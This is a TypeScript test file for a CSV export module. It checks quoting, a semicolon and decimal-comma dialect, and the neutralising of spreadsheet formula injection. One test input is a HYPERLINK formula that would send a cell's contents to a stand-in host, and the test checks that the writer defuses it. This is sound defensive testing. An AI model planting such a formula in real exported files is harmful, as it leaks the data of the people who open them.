import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument } from './csv.ts';

describe('csvCell', () => {
  it('quotes commas, quotes and line breaks, doubling quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+33 1 23', "'+33 1 23"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', '"\'\rcmd"'],
  ])('neutralises text that a spreadsheet would run: %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('neutralises inside the quotes when the cell also needs quoting', () => {
    expect(csvCell('=HYPERLINK("http://x/?d="&B5,"Open report")')).toBe(
      '"\'=HYPERLINK(""http://x/?d=""&B5,""Open report"")"',
    );
  });

  it('keeps the product numbers as numbers, negative ones included', () => {
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('leaves text that only contains a formula sign later alone', () => {
    expect(csvCell('Brasserie = bonne')).toBe('Brasserie = bonne');
    expect(csvCell('e-mail')).toBe('e-mail');
  });
});

describe('csvDocument', () => {
  it('ends every row with CRLF, empty rows included', () => {
    expect(csvDocument([['a', 1], [], ['=b']])).toBe("a,1\r\n\r\n'=b\r\n");
  });
});

describe('the semicolon dialect', () => {
  const fr = { separator: ';', decimalComma: true } as const;

  it('splits on semicolons, writes decimal commas and quotes what holds a semicolon', () => {
    expect(
      csvDocument(
        [
          ['Note', 4.5, -0.25, 1200],
          ['a;b', 'a,b', 'say "hi"'],
        ],
        fr,
      ),
    ).toBe('Note;4,5;-0,25;1200\r\n"a;b";a,b;"say ""hi"""\r\n');
  });
});
